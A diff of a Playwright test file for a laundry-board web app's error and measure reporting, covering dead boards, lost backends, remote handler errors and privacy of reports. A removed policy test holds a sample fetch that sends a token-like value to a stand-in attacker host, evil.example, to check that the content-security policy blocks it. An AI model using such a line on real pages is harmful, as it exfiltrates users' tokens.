@@ -1,15 +1,12 @@
 import type { Page } from '@playwright/test';
+import { LOCAL_PROJECT_ID, startFirestoreServer } from '@laundry-board/local-backend';
 import { freePorts } from '@laundry-board/loopback';
-import type { Report } from '@laundry-board/shared-types';
+import type { ReceivedReport } from '@laundry-board/reports';
 import { boardPage } from '../../support/boardPage.ts';
-import { expectRefusal, LOAD_FAILURE } from '../../support/fixtures.ts';
-import {
-  expect,
-  type ReportedSite,
-  reporterStarted,
-  test as base,
-} from '../../support/reportedSite.ts';
-import { sampleSchool } from '../../support/schools.ts';
+import { LOAD_FAILURE, NOT_REACHED } from '../../support/fixtures.ts';
+import { expect, type ReportedSite, reporterStarted, test } from '../../support/reportedSite.ts';
+import { sampleSchool, schoolsOf } from '../../support/schools.ts';
+import { throwingAuthRemote } from '../../support/throwingRemote.ts';
 
 const ADA = 'ada@campus.example';
 /** The page's URL names a building, and something that looks like a token. */
@@ -18,7 +15,7 @@ const BOARD = '/?building=maple&token=eyJhbGciOi';
 /** Who and where the resident is, in any writing; nor is there any URL or host. */
 const PERSONAL = /\bada\b|lovelace|campus|maple|north|east|eyJ|localhost|127\.0|[?&@]|https?:/i;
 
-function errorsOf({ reports }: ReportedSite): readonly Report[] {
+function errorsOf({ reports }: ReportedSite): readonly ReceivedReport[] {
   return reports.filter(({ type }) => type === 'error');
 }
 
@@ -34,20 +31,6 @@ async function expectReport(
   expect(new Set(site.statuses)).toEqual(new Set([204]));
 }
 
-const test = base.extend<{
-  /** Visits a board that turns out not to work, until its reporter runs. */
-  readonly visitBrokenBoard: () => Promise<void>;
-}>({
-  visitBrokenBoard: ({ page, pageConsole, reported, visitAs }, use) =>
-    use(async () => {
-      pageConsole.expectErrors(/The board could not be loaded/);
-      const started = reporterStarted(page);
-      await visitAs(ADA, reported.origin + BOARD);
-      await expect(page.getByRole('alert')).toContainText('The board could not be loaded.');
-      await started;
-    }),
-});
-
 test.beforeEach(async ({ schools }) => {
   await schools.write('campus.example', sampleSchool());
 });
@@ -61,18 +44,8 @@ test('a healthy visit reports its measures and no error @engines', async ({
   await visitAs(ADA, reported.origin + BOARD);
   await expect(boardPage(page).washers.first()).toBeVisible();
   await started;
-  const measures = () =>
-    reported.reports.flatMap((report) =>
-      report.type === 'measure' ? [`${report.name} ${report.remote ?? ''}`.trim()] : [],
-    );
-  // Each look hands over what there is by then, as leaving would.
-  await expect
-    .poll(async () => {
-      await page.evaluate(() => dispatchEvent(new Event('pagehide')));
-      return measures();
-    })
-    .toEqual(expect.arrayContaining(['TTFB', 'load auth', 'load board']));
-  await expectReport(page, reported, { type: 'measure', name: 'first-tile', kiosk: false });
+  await expectReport(page, reported, { type: 'measure', name: 'first-tile' });
+  await expectReport(page, reported, { type: 'measure', name: 'TTFB' });
   expect(errorsOf(reported)).toEqual([]);
   expect(new Set(reported.reports.map(({ visit }) => visit)).size).toBe(1);
 });
@@ -89,69 +62,75 @@ test('a tab that is closed hands over what it has @rare', async ({ page, reporte
   expect(reported.bytes()).not.toMatch(PERSONAL);
 });
 
-test('a dead board is reported @rare', async ({
-  page,
-  pageConsole,
-  reported,
-  visitBrokenBoard,
-  site,
-}) => {
-  pageConsole.expectErrors(LOAD_FAILURE);
+test('a dead board is reported', async ({ page, pageConsole, reported, site, visitAs }) => {
+  pageConsole.expectErrors(LOAD_FAILURE, /The board could not be loaded/);
   // Nobody listens there. While a test answers requests itself, Firefox may lose what a page sends as it is left.
   const [port] = await freePorts(1);
   const board = `http://localhost:${port}/`;
   await reported.configure({ remotes: { ...site.config.remotes, board } });
-  await visitBrokenBoard();
+  const started = reporterStarted(page);
+  await visitAs(ADA, reported.origin + BOARD);
+  await expect(page.getByRole('alert')).toContainText('The board could not be loaded.');
+  await started;
   await expectReport(page, reported, {
     type: 'error',
     remote: 'board',
+    remoteVersion: 'unknown',
     phase: 'loading its entry',
     failure: 'unreachable',
-    ended: 'never',
   });
 });
 
-test('a board that recovers by a click says so @rare', async ({
+test('a backend that the board has lost is reported @rare', async ({
   page,
   pageConsole,
   reported,
-  visitBrokenBoard,
   site,
+  visitAs,
 }) => {
-  pageConsole.expectErrors(LOAD_FAILURE);
-  let isBroken = true;
-  await page.route(`${site.config.remotes.board}**`, (route) =>
-    isBroken ? route.abort('connectionrefused') : route.fallback(),
-  );
-  await page.clock.install();
-  await visitBrokenBoard();
-  isBroken = false;
-  await page.getByRole('button', { name: 'Try again' }).click();
+  pageConsole.expectErrors(LOAD_FAILURE, NOT_REACHED);
+  const firestore = await startFirestoreServer({ port: 0, projectId: LOCAL_PROJECT_ID });
+  await schoolsOf(firestore.origin).write('campus.example', sampleSchool());
+  const emulators = { auth: site.auth.origin, firestore: firestore.origin };
+  await reported.configure({ emulators });
+  const started = reporterStarted(page);
+  await visitAs(ADA, reported.origin + BOARD);
   await expect(boardPage(page).washers.first()).toBeVisible();
+  await started;
+  await firestore.close();
+  await expect(page.getByText('can’t be reached')).toBeVisible();
   await expectReport(page, reported, {
-    failure: 'unreachable',
-    ended: expect.stringMatching(/^by-/),
+    type: 'error',
+    remote: 'board',
+    failure: 'backend-unreachable',
   });
 });
 
-test('a violation of the policy is reported', async ({ page, pageConsole, reported }) => {
-  expectRefusal(pageConsole, /connect-src https:\/\/evil/);
+test('an error of a remote’s handler is reported as the remote’s, with its place', async ({
+  page,
+  pageConsole,
+  reported,
+  site,
+}) => {
+  pageConsole.expectErrors(/thrown by a handler/);
+  await page.route(`${site.config.remotes.auth}remoteEntry.js*`, (route) =>
+    route.fulfill({
+      body: throwingAuthRemote(),
+      contentType: 'text/javascript',
+      headers: { 'Access-Control-Allow-Origin': '*' },
+    }),
+  );
   const started = reporterStarted(page);
   await page.goto(reported.origin);
-  await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
+  await page.getByRole('button', { name: 'Throw in the handler' }).click();
   await started;
-  const code = "fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {})";
-  // Firefox logs a refusal before the page gets the event.
-  await page.evaluate(`new Promise((resolve) => {
-    addEventListener('securitypolicyviolation', () => resolve(), { once: true });
-    setTimeout(() => { ${code} });
-  })`);
-  await expect.poll(() => pageConsole.lines.join()).toContain('connect-src https://evil');
-  await page.goto('about:blank');
-  const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
-  await expect
-    .poll(() => reported.reports)
-    .toContainEqual(expect.objectContaining({ ...violation, kiosk: false }));
+  await expectReport(page, reported, {
+    type: 'error',
+    remote: 'auth',
+    phase: 'running',
+    failure: 'uncaught',
+    message: expect.stringMatching(/^TypeError at remoteEntry\.js:\d+:\d+$/),
+  });
 });
 
 test('without an endpoint nothing is loaded or sent', async ({ page, site, visitAs }) => {
